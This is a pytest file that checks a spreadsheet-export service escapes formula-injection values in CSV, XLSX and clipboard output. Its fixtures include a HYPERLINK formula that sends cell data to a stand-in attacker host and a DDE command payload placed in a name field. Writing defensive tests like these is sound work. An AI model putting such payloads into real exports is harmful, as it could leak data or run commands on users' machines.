"""Spreadsheet-bound output (CSV, XLSX, clipboard text) never carries a live formula."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mentordesk.services.spreadsheets import csv_text, is_formula_like, text_cell, tsv_text, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]
HEADER = ("Name", "E-mail", "Round")
ROWS = [(HOSTILE[0], "=cmd|' /C calc'!A0", 1), ("Zoë Šimůnek", "zoe@example.org", 2),
        ("+44 20 7946 0000", "@handle", -3)]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_recognised_and_made_text(value: str) -> None:
    assert is_formula_like(value)
    assert text_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Zoë Šimůnek", "a=b", "zoe@example.org", "", "O'Brien", "1-2"])
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert not is_formula_like(value) and text_cell(value) == value


def test_numbers_stay_numbers() -> None:
    assert not is_formula_like(-3) and text_cell(-3) == "-3" and text_cell(None) == ""


def test_clipboard_text_keeps_one_cell_per_value() -> None:
    text = tsv_text(HEADER, [("=1+1\tsecond cell", "line\nbreak", 1)])
    lines = text.splitlines()
    assert lines == ["Name\tE-mail\tRound", "'=1+1 second cell\tline break\t1"]


def test_csv_cells_are_text(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, HEADER, ROWS)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0] == list(HEADER)
    for row in rows[1:]:
        assert not any(is_formula_like(cell) for cell in row[:2]), row
    assert rows[1][0] == "'" + HOSTILE[0] and rows[2] == ["Zoë Šimůnek", "zoe@example.org", "2"]
    assert rows[3] == ["'+44 20 7946 0000", "'@handle", "-3"]
    assert csv_text(HEADER, ROWS) == path.read_bytes().decode("utf-8-sig")


def test_xlsx_cells_are_text_cells_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, HEADER, ROWS, sheet="Follow-ups: round 1/2")
    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(name) for name in sheets)
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = {(c.row, c.column): c for row in sheet.iter_rows() for c in row}
    hyperlink = cells[(2, 1)]
    assert hyperlink.value == HOSTILE[0] and hyperlink.data_type == "s" and hyperlink.quotePrefix
    assert cells[(2, 2)].data_type == "s" and cells[(4, 2)].value == "@handle" and cells[(4, 2)].quotePrefix
    assert cells[(3, 1)].value == "Zoë Šimůnek" and not cells[(3, 1)].quotePrefix
    assert cells[(4, 3)].value == -3 and cells[(4, 3)].data_type == "n"
